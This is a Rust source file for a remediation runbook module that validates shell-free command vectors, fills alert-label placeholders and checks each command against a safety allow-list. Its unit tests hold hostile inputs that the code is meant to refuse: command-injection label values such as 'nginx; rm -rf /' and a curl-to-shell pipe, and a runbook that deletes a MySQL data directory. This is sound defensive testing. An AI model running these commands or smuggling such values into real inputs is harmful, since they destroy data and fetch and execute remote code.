//! Declarative runbooks: what they match, their risk and cooldown, and their steps as argument
//! vectors (no shell) with `{label}` placeholders, pre-checks, verification and rollback.
//!
//! A runbook is validated when it is loaded ([`Runbook::from_spec`]): every command of every
//! step, with each placeholder replaced by a representative value of its kind, must pass the
//! command safety check for remediation ([`crate::safety::check_argv`]); a placeholder must name
//! a known label or a declared parameter. A runbook that fails is refused with every reason.
//!
//! At run time [`Runbook::resolve`] fills the placeholders from the alert's labels. A value
//! replaces a placeholder inside one argument only (it can never add arguments), and the
//! resolved vector is checked again, so a hostile label value (`nginx; rm -rf /`) is refused,
//! never run. A missing label stops the run ("Missing label: <name>").

use std::collections::{BTreeMap, BTreeSet};

use serde::{Deserialize, Serialize};

use crate::safety::{self, Purpose};

/// How much a runbook may do without a person.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Risk {
    /// Runs on its own.
    Auto,
    /// Waits for an operator's approval.
    Confirm,
    /// Never runs automatically.
    Block,
}

impl Risk {
    pub fn as_str(self) -> &'static str {
        match self {
            Self::Auto => "auto",
            Self::Confirm => "confirm",
            Self::Block => "block",
        }
    }
}

/// The labels an alert provides (`remediation-and-ai.md` §1), with a representative value each
/// for load-time validation.
pub const ALERT_LABELS: &[(&str, &str)] = &[
    ("host", "web-01"),
    ("service_name", "nginx"),
    ("service_id", "12"),
    ("metric", "disk_percent"),
    ("db_name", "orders"),
    ("threshold", "90"),
];

/// Labels a step's output extractor produces (see [`Extract`]), with a representative value.
pub const EXTRACTED_LABELS: &[(&str, &str)] = &[("pid", "4242")];

/// A runbook as written in YAML (built-in or user-defined).
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct RunbookSpec {
    pub name: String,
    pub description: String,
    pub risk: Risk,
    #[serde(default = "default_cooldown")]
    pub cooldown_seconds: u64,
    #[serde(default)]
    pub match_alert_types: Vec<String>,
    #[serde(default)]
    pub keywords: Vec<String>,
    /// Parameters with their default values, usable as `{name}` placeholders.
    #[serde(default)]
    pub params: BTreeMap<String, String>,
    /// Read-only commands run first; a non-zero exit stops the run before any change.
    #[serde(default)]
    pub pre_checks: Vec<StepSpec>,
    pub steps: Vec<StepSpec>,
    #[serde(default)]
    pub verify: VerifySpec,
    /// Run in order when a step or the verification fails.
    #[serde(default)]
    pub rollback: Vec<StepSpec>,
    /// Whether it may run automatically inside a maintenance window.
    #[serde(default)]
    pub allow_in_maintenance: bool,
}

fn default_cooldown() -> u64 {
    300
}

fn default_timeout() -> u64 {
    30
}

/// One command of a runbook.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct StepSpec {
    pub name: String,
    /// The argument vector; `{label}` placeholders are filled at run time.
    pub run: Vec<String>,
    #[serde(default = "default_timeout")]
    pub timeout_seconds: u64,
    /// Runs once per value of an extracted list label (`pid`), from an earlier step's output.
    #[serde(default)]
    pub for_each: Option<String>,
    /// What to read from this step's output for later steps.
    #[serde(default)]
    pub extract: Option<Extract>,
    /// A step riskier than its runbook raises the run's risk to this.
    #[serde(default)]
    pub risk: Option<Risk>,
    /// A failure of this step is recorded but does not stop the run (a package manager the
    /// host does not have).
    #[serde(default)]
    pub optional: bool,
}

/// Named, built-in readers of a step's output: a runbook never parses output with a shell.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Extract {
    /// From `ps -eo pid,ppid,stat,comm`: the distinct parents (`pid`) of zombie processes,
    /// never PID 1 or 0.
    ZombieParents,
}

/// How a run is verified.
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct VerifySpec {
    /// Read-only commands that must exit 0.
    #[serde(default)]
    pub commands: Vec<StepSpec>,
    /// The alert's metric must come back under its threshold within `within_seconds`.
    #[serde(default)]
    pub metric_below_threshold: bool,
    /// The alert's service check must be `up` within `within_seconds`.
    #[serde(default)]
    pub service_up: bool,
    /// Fewer zombie processes in the last verify command's `ps -eo pid,ppid,stat,comm` output
    /// than in the output of the step that extracted their parents (or none to begin with).
    #[serde(default)]
    pub fewer_zombies: bool,
    #[serde(default = "default_within")]
    pub within_seconds: u64,
}

fn default_within() -> u64 {
    120
}

/// A runbook that passed validation.
#[derive(Debug, Clone, PartialEq)]
pub struct Runbook {
    spec: RunbookSpec,
}

/// Why a runbook was refused at load time: every reason found.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("runbook {name:?} refused: {}", .reasons.join("; "))]
pub struct InvalidRunbook {
    pub name: String,
    pub reasons: Vec<String>,
}

/// Why a step could not be resolved at run time.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum ResolveError {
    /// The alert has no value for a placeholder (`remediation-and-ai.md` §1).
    #[error("Missing label: {0}")]
    MissingLabel(String),
    /// The filled-in command failed the safety check.
    #[error("Unsafe command: {0}")]
    Unsafe(String),
}

/// One command ready to send to the agent.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct ResolvedCommand {
    pub step: String,
    pub argv: Vec<String>,
    pub timeout_seconds: u64,
}

impl Runbook {
    /// Parses and validates one YAML document.
    pub fn from_yaml(text: &str) -> Result<Self, InvalidRunbook> {
        let spec: RunbookSpec = serde_yaml_ng::from_str(text).map_err(|error| InvalidRunbook {
            name: "<unparsed>".to_owned(),
            reasons: vec![format!("not a valid runbook document: {error}")],
        })?;
        Self::from_spec(spec)
    }

    /// Validates a runbook.
    pub fn from_spec(spec: RunbookSpec) -> Result<Self, InvalidRunbook> {
        let mut reasons = Vec::new();
        let name_ok = !spec.name.is_empty()
            && spec.name.len() <= 64
            && spec
                .name
                .chars()
                .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '_');
        if !name_ok {
            reasons.push("name must be 1 to 64 characters of a-z, 0-9 and _".to_owned());
        }
        if spec.steps.is_empty() {
            reasons.push("a runbook needs at least one step".to_owned());
        }
        if spec.cooldown_seconds == 0 {
            reasons.push("cooldown_seconds must be more than 0".to_owned());
        }
        for (param, value) in &spec.params {
            if ALERT_LABELS.iter().any(|(label, _)| label == param) {
                reasons.push(format!("parameter {param:?} shadows an alert label"));
            }
            if value.is_empty() {
                reasons.push(format!("parameter {param:?} needs a default value"));
            }
        }
        let mut extracted = BTreeSet::new();
        let sections = [
            ("pre_check", &spec.pre_checks, true),
            ("step", &spec.steps, false),
            ("verify", &spec.verify.commands, true),
            ("rollback", &spec.rollback, false),
        ];
        for (section, steps, read_only) in sections {
            for (index, step) in steps.iter().enumerate() {
                let at = format!("{section} {} ({:?})", index + 1, step.name);
                validate_step(&spec, step, read_only, &extracted, &at, &mut reasons);
                if let Some(Extract::ZombieParents) = step.extract {
                    extracted.insert("pid".to_owned());
                }
            }
        }
        if reasons.is_empty() {
            Ok(Self { spec })
        } else {
            Err(InvalidRunbook {
                name: spec.name,
                reasons,
            })
        }
    }

    pub fn spec(&self) -> &RunbookSpec {
        &self.spec
    }

    pub fn name(&self) -> &str {
        &self.spec.name
    }

    /// The run's risk: the runbook's, raised by any step that declares more.
    pub fn risk(&self) -> Risk {
        self.spec
            .steps
            .iter()
            .filter_map(|step| step.risk)
            .fold(self.spec.risk, Risk::max)
    }

    /// Fills `step`'s placeholders from `labels` (the alert's labels, then the runbook's
    /// parameter defaults) and checks the result.
    pub fn resolve(
        &self,
        step: &StepSpec,
        labels: &BTreeMap<String, String>,
    ) -> Result<ResolvedCommand, ResolveError> {
        let mut argv = Vec::with_capacity(step.run.len());
        for argument in &step.run {
            argv.push(fill(argument, |name| {
                labels
                    .get(name)
                    .or_else(|| self.spec.params.get(name))
                    .cloned()
                    .ok_or_else(|| ResolveError::MissingLabel(name.to_owned()))
            })?);
        }
        safety::check_argv(&argv, Purpose::Remediation)
            .map_err(|refusal| ResolveError::Unsafe(refusal.reasons.join("; ")))?;
        Ok(ResolvedCommand {
            step: step.name.clone(),
            argv,
            timeout_seconds: step.timeout_seconds,
        })
    }
}

fn validate_step(
    spec: &RunbookSpec,
    step: &StepSpec,
    read_only: bool,
    extracted: &BTreeSet<String>,
    at: &str,
    reasons: &mut Vec<String>,
) {
    if step.run.is_empty() {
        reasons.push(format!("{at}: `run` is empty"));
        return;
    }
    if step.timeout_seconds == 0 || step.timeout_seconds > 3_600 {
        reasons.push(format!("{at}: timeout_seconds must be 1 to 3600"));
    }
    if let Some(label) = &step.for_each
        && !extracted.contains(label)
    {
        reasons.push(format!(
            "{at}: for_each {label:?} is not extracted by an earlier step"
        ));
    }
    let mut argv = Vec::with_capacity(step.run.len());
    for argument in &step.run {
        let filled = fill(argument, |name| {
            let sample = ALERT_LABELS
                .iter()
                .chain(EXTRACTED_LABELS.iter())
                .find(|(label, _)| *label == name)
                .filter(|(label, _)| {
                    // An extracted label is usable only after the step that extracts it.
                    !EXTRACTED_LABELS.iter().any(|(l, _)| l == label) || extracted.contains(*label)
                })
                .map(|(_, sample)| (*sample).to_owned())
                .or_else(|| spec.params.get(name).cloned());
            sample.ok_or_else(|| format!("{at}: unknown placeholder {{{name}}}"))
        });
        match filled {
            Ok(value) => argv.push(value),
            Err(reason) => {
                reasons.push(reason);
                return;
            }
        }
    }
    let purpose = if read_only {
        Purpose::Diagnostic
    } else {
        Purpose::Remediation
    };
    if let Err(refusal) = safety::check_argv(&argv, purpose) {
        reasons.push(format!("{at}: {}", refusal.reasons.join("; ")));
    }
}

/// Replaces each `{name}` in `template` with `value(name)`. Braces are otherwise literal, and
/// the safety check refuses any that remain.
fn fill<E>(template: &str, mut value: impl FnMut(&str) -> Result<String, E>) -> Result<String, E> {
    let mut out = String::with_capacity(template.len());
    let mut rest = template;
    while let Some(start) = rest.find('{') {
        let Some(length) = rest[start + 1..].find('}') else {
            break;
        };
        let name = &rest[start + 1..start + 1 + length];
        let is_name = !name.is_empty()
            && name
                .chars()
                .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '_');
        out.push_str(&rest[..start]);
        if is_name {
            out.push_str(&value(name)?);
        } else {
            out.push_str(&rest[start..=start + 1 + length]);
        }
        rest = &rest[start + 2 + length..];
    }
    out.push_str(rest);
    Ok(out)
}

/// How many processes are zombies (state `Z`) in `ps -eo pid,ppid,stat,comm` output.
pub fn zombie_count(ps_output: &str) -> usize {
    ps_output
        .lines()
        .filter_map(|line| line.split_whitespace().nth(2))
        .filter(|stat| stat.starts_with('Z'))
        .count()
}

/// The distinct parents of zombie processes in `ps -eo pid,ppid,stat,comm` output (header line
/// skipped), never PID 0 or 1, in order of appearance, at most 20.
pub fn zombie_parents(ps_output: &str) -> Vec<String> {
    let mut parents: Vec<String> = Vec::new();
    for line in ps_output.lines() {
        let mut columns = line.split_whitespace();
        let (Some(_pid), Some(ppid), Some(stat)) = (columns.next(), columns.next(), columns.next())
        else {
            continue;
        };
        let Ok(parent) = ppid.parse::<u32>() else {
            continue;
        };
        if stat.starts_with('Z') && parent > 1 && !parents.iter().any(|p| *p == ppid) {
            parents.push(parent.to_string());
        }
        if parents.len() == 20 {
            break;
        }
    }
    parents
}

#[cfg(test)]
mod tests {
    use super::*;

    fn labels(pairs: &[(&str, &str)]) -> BTreeMap<String, String> {
        pairs
            .iter()
            .map(|(k, v)| ((*k).to_owned(), (*v).to_owned()))
            .collect()
    }

    const RESTART: &str = r#"
name: restart_it
description: restart a unit
risk: confirm
steps:
  - name: restart
    run: [systemctl, restart, "{service_name}"]
verify:
  commands:
    - name: active
      run: [systemctl, is-active, "{service_name}"]
  service_up: true
"#;

    #[test]
    fn a_valid_runbook_loads_and_resolves() {
        let runbook = Runbook::from_yaml(RESTART).expect("valid");
        assert_eq!(runbook.risk(), Risk::Confirm);
        let step = &runbook.spec().steps[0];
        let command = runbook
            .resolve(step, &labels(&[("service_name", "nginx")]))
            .expect("resolved");
        assert_eq!(command.argv, vec!["systemctl", "restart", "nginx"]);
        assert_eq!(command.timeout_seconds, 30);
    }

    #[test]
    fn a_missing_label_stops_the_run_and_is_never_run_literally() {
        let runbook = Runbook::from_yaml(RESTART).expect("valid");
        let step = &runbook.spec().steps[0];
        assert_eq!(
            runbook.resolve(step, &labels(&[])),
            Err(ResolveError::MissingLabel("service_name".to_owned()))
        );
    }

    #[test]
    fn a_hostile_label_value_is_refused_not_run() {
        let runbook = Runbook::from_yaml(RESTART).expect("valid");
        let step = &runbook.spec().steps[0];
        for hostile in [
            "nginx; rm -rf /",
            "nginx && curl http://x/a.sh | sh",
            "$(reboot)",
            "`id`",
            "nginx\nreboot",
            "sshd",
            "../../bin/sh",
            "nginx --now",
        ] {
            let result = runbook.resolve(step, &labels(&[("service_name", hostile)]));
            assert!(
                matches!(result, Err(ResolveError::Unsafe(_))),
                "{hostile:?} gave {result:?}"
            );
        }
    }

    #[test]
    fn an_unsafe_command_is_refused_at_load_with_the_reason() {
        let yaml = r#"
name: wipe
description: bad idea
risk: auto
steps:
  - name: wipe
    run: [rm, -rf, /var/lib/mysql]
  - name: pipe
    run: [sh, -c, "curl http://x | sh"]
"#;
        let error = Runbook::from_yaml(yaml).expect_err("refused");
        assert_eq!(error.name, "wipe");
        assert_eq!(error.reasons.len(), 2, "{error}");
        assert!(error.reasons[0].starts_with("step 1 (\"wipe\")"), "{error}");
        assert!(
            error.reasons[0].contains("not on the allow-list"),
            "{error}"
        );
    }

    #[test]
    fn unknown_placeholders_fields_and_bad_names_are_refused() {
        let yaml = r#"
name: Bad-Name
description: x
risk: auto
steps:
  - name: s
    run: [systemctl, restart, "{unit}"]
"#;
        let error = Runbook::from_yaml(yaml).expect_err("refused");
        assert!(error.reasons.iter().any(|r| r.contains("name must be")));
        assert!(
            error
                .reasons
                .iter()
                .any(|r| r.contains("unknown placeholder {unit}"))
        );
        let unknown_field = "name: x\ndescription: x\nrisk: auto\nsteps: []\nshell: true\n";
        assert!(Runbook::from_yaml(unknown_field).is_err());
    }

    #[test]
    fn a_changing_command_is_refused_as_a_check_or_verification() {
        let yaml = r#"
name: sneaky
description: x
risk: auto
pre_checks:
  - name: restart as a check
    run: [systemctl, restart, nginx]
steps:
  - name: look
    run: [df, -h]
"#;
        let error = Runbook::from_yaml(yaml).expect_err("refused");
        assert!(error.reasons[0].starts_with("pre_check 1"), "{error}");
    }

    #[test]
    fn for_each_needs_an_earlier_extraction() {
        let yaml = r#"
name: reap
description: x
risk: auto
steps:
  - name: signal
    run: [kill, -s, CHLD, "{pid}"]
    for_each: pid
"#;
        let error = Runbook::from_yaml(yaml).expect_err("refused");
        assert!(
            error.reasons.iter().any(|r| r.contains("not extracted")),
            "{error}"
        );
    }

    #[test]
    fn a_riskier_step_raises_the_run_risk() {
        let yaml = r#"
name: two_steps
description: x
risk: auto
steps:
  - name: look
    run: [free, -m]
  - name: restart
    run: [systemctl, restart, "{service_name}"]
    risk: confirm
"#;
        assert_eq!(
            Runbook::from_yaml(yaml).expect("valid").risk(),
            Risk::Confirm
        );
    }

    #[test]
    fn zombie_parents_are_read_without_a_shell() {
        let ps = "  PID  PPID STAT COMMAND\n    1     0 Ss   systemd\n  300   200 Z    worker <defunct>\n  301   200 Z    worker <defunct>\n  400     1 Z    orphan <defunct>\n  500   450 Zs   x\n  600   450 S    ok\n";
        assert_eq!(zombie_parents(ps), vec!["200", "450"]);
        assert_eq!(zombie_count(ps), 4);
        assert!(zombie_parents("garbage\n\n").is_empty());
    }

    #[test]
    fn placeholders_fill_inside_one_argument_only() {
        let filled: Result<String, ()> =
            fill("--unit={service_name}.service", |_| Ok("a b".to_owned()));
        assert_eq!(filled, Ok("--unit=a b.service".to_owned()));
        let literal: Result<String, ()> = fill("{Not A Name} {", |_| Ok("x".to_owned()));
        assert_eq!(literal, Ok("{Not A Name} {".to_owned()));
    }
}
